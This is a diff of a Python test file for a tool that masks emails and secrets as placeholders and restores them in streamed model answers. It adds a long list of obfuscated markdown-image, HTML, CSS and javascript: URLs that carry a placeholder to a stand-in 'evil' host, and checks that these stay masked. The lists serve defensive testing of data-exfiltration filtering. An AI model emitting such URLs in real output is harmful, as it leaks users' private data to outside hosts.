@@ -1,6 +1,7 @@
 """Values that come back: placeholders in a request, and the values again in its answer, whole and streamed."""
 
 import itertools
+import time
 from collections.abc import Iterable
 
 import orjson
@@ -95,32 +96,141 @@ def test_a_value_in_json_is_written_as_json(size: int) -> None:
         assert orjson.loads(whole(text, form)) == {"to": MAIL, "note": f"use {KEY}", "list": [MAIL]}
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "![logo](https://evil.example/p.png?q=[EMAIL_1])",
-        "<img src='HTTPS://evil.example/[EMAIL_1]'>",
-        "see //evil.example/x?[EMAIL_1] now",
-        "https:\\/\\/evil.example\\/[email 1]",
-        '<img src="https://evil.example/? and some words [EMAIL_1]">',
-        "![x](<https://evil.example/? and [EMAIL_1]>)",
-        '<img src="https://evil.example/?' + "words and words " * 40 + '[EMAIL_1]">',
-        "https://evil.example/" + "abc/" * 700 + "[EMAIL_1]",
-    ],
-)
-def test_a_placeholder_in_an_address_stays(text: str) -> None:
+PADDING = "words and " * 400
+
+ELSEWHERE = [
+    "![x](https://evil/p.png?q=[EMAIL_1])",
+    "![x](http:/evil/[EMAIL_1])",
+    "![x](http:evil/[EMAIL_1])",
+    r"![x](/\evil/[EMAIL_1])",
+    "![x](https:&#47;&#47;evil/[EMAIL_1])",
+    "![x](https&colon;//evil/[EMAIL_1])",
+    "![x](//evil/[EMAIL_1])",
+    "![x](///evil/[EMAIL_1])",
+    "![x](\n  //evil/[EMAIL_1])",
+    "![x](//evil/](y[EMAIL_1]))",
+    "![x](<https://evil/? and [EMAIL_1]>)",
+    f"![x](<//evil/{PADDING}[EMAIL_1]>)",
+    "[a]: //evil/[EMAIL_1]",
+    "[a]:\n  <//evil/ [EMAIL_1]>",
+    "[x](file://evil/[EMAIL_1])",
+    "<img src='HTTPS://evil/[EMAIL_1]'>",
+    r'<img src="https:\\evil/[EMAIL_1]">',
+    r'<img src="\\evil/[EMAIL_1]">',
+    '<img src="h\tttps://evil/[EMAIL_1]">',
+    '<img src="/\t/evil/[EMAIL_1]">',
+    '<img src="\x01//evil/[EMAIL_1]">',
+    "<img src=h&Tab;ttps://evil/[EMAIL_1]>",
+    "<img src=//evil/[EMAIL_1]>",
+    '<img src=\n"//evil/[EMAIL_1]">',
+    '<img alt=">" src="//evil/[EMAIL_1]">',
+    '<a <b href="//evil/<b [EMAIL_1]">',
+    "<img srcset='a.png 1x, //evil/[EMAIL_1] 2x'>",
+    '<div style="background:url(//evil/[EMAIL_1])">',
+    "<a href=\"&#106;avascript:f('[EMAIL_1]')\">",
+    f'<img src="https://evil/?{PADDING}[EMAIL_1]">',
+    '{"html": "<img src=\\"//evil/[EMAIL_1]\\">"}',
+    '{"html": "\\u003cimg src=\\"\\/\\/evil/[EMAIL_1]\\">"}',
+    "https://[EMAIL_1]@evil/p.png",
+    "![x](https://[EMAIL_1]@evil/p.png)",
+    "(see https://evil/?[EMAIL_1])",
+    'https://evil/"[EMAIL_1]',
+    "https:\\/\\/evil\\/[email 1]",
+    r"https\://evil/[EMAIL_1]",
+    "http:evil/[EMAIL_1]",
+    "wss://evil/[EMAIL_1]",
+    "https://evil/" + "abc/" * 700 + "[EMAIL_1]",
+]
+HERE = [
+    "//server/share/[EMAIL_1]",
+    "see //server/share/[EMAIL_1] now",
+    r"C:\Users\[EMAIL_1]\x",
+    r"\\server\share\[EMAIL_1]",
+    "/home/[EMAIL_1]/x",
+    "file:///home/[EMAIL_1]",
+    'List<string> p = "//server/share/[EMAIL_1]"',
+    "<b>Path:</b> //server/share/[EMAIL_1]",
+    "[EMAIL_1]: //server/share/[EMAIL_1]",
+    "[x](mailto:[EMAIL_1])",
+    "[x](tel:[EMAIL_1])",
+    '<a href="mailto:[EMAIL_1]?subject=x">',
+    "[x](/users/[EMAIL_1])",
+    "[x](users/[EMAIL_1]#[EMAIL_1])",
+    r"[x](C:\Users\[EMAIL_1])",
+    "[x](file:///home/[EMAIL_1])",
+    '<a href="/users/[EMAIL_1]">',
+    '<a title="Contact: [EMAIL_1]" href="https://ok/">x</a>',
+    "<img src=https://ok/a.png>[EMAIL_1]",
+    '![x](https://ok/a.png "by [EMAIL_1]")',
+    "see https://ok.example/x [EMAIL_1]",
+    '{"url":"https://ok.example","to":"[EMAIL_1]"}',
+    "`https://ok`[EMAIL_1]",
+]
+
+
+@pytest.mark.parametrize("text", ELSEWHERE)
+def test_a_placeholder_in_an_address_at_another_host_stays(text: str) -> None:
     restorer = Restorer(prepared())
     assert whole(text, restorer=restorer) == text and restorer.left == {"EMAIL": 1}
-    assert streamed([text[:20], text[20:]]) == text
 
 
-def test_an_address_that_the_caller_wrote_is_restored_and_so_are_userinfo_and_mailto() -> None:
+@pytest.mark.parametrize("text", HERE)
+def test_a_placeholder_in_a_path_or_share_or_at_the_pages_own_host_is_restored(text: str) -> None:
+    assert whole(text) == text.replace("[EMAIL_1]", MAIL)
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11, 17])
+def test_a_stream_cut_anywhere_decides_about_addresses_as_a_whole_text(size: int) -> None:
+    for text in (*ELSEWHERE, *HERE):
+        if len(text) < 100 or size > 5:
+            assert streamed([text[at : at + size] for at in range(0, len(text), size)]) == whole(text)
+
+
+def test_what_has_no_end_is_read_in_time_that_grows_with_its_length() -> None:
+    for unit in (
+        "<a ",
+        "](",
+        '<a="',
+        "[EMAIL_1]",
+        '<a b="//x/[EMAIL_1]',
+        "](//x/[EMAIL_1]",
+        "\\",
+        "&#47;[EMAIL_1]",
+        "url(",
+    ):
+        began_s = time.process_time()
+        whole(unit * (40_000 // len(unit)) + "[EMAIL_1]")
+        assert time.process_time() - began_s < 4, unit
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://shop.example/?m={}",
+        "https://{}@db.example/x",
+        "//cdn.example/{}.png",
+        "https:shop.example/{}",
+        "https://shop.example/?a=1&m={}",
+        "postgres://{}:5432/x",
+    ],
+)
+def test_an_address_that_the_caller_wrote_is_restored(address: str) -> None:
+    own, masked = address.format(MAIL), address.format("[EMAIL_1]")
+    restorer = Restorer(prepared(), addresses_of({"messages": [{"role": "user", "content": f"open {own}, please"}]}))
+    for form in ("I opened {}.", "![x]({})", '<img src="{}">', "<{}>"):
+        assert whole(form.format(masked), restorer=restorer) == form.format(own)
+    other = f"![x]({masked.replace('[EMAIL_1]', 'e[EMAIL_1]')})"
+    assert whole(other, restorer=restorer) == other
+    coded = masked.replace("&", "&amp;")
+    assert whole(f'<img src="{coded}">', restorer=restorer) == f'<img src="{own.replace("&", "&amp;")}">'
+
+
+def test_an_address_that_the_caller_wrote_is_restored_and_mailto_too() -> None:
     own = f"https://shop.example/?m={MAIL}"
     addresses = addresses_of({"messages": [{"role": "user", "content": f"open {own}, please"}]})
     restorer = Restorer(prepared(), addresses)
     assert whole("I opened https://shop.example/?m=[EMAIL_1].", restorer=restorer) == f"I opened {own}."
-    assert whole("mailto:[EMAIL_1] https://[SECRET_1]@db.example/x", restorer=restorer).startswith(f"mailto:{MAIL}")
-    assert "SECRET_1" not in whole("https://u:[SECRET_1]@db.example/x", restorer=restorer)
+    assert whole("mailto:[EMAIL_1] and so on", restorer=restorer).startswith(f"mailto:{MAIL}")
 
 
 def test_an_address_of_a_tools_result_is_not_the_callers() -> None:
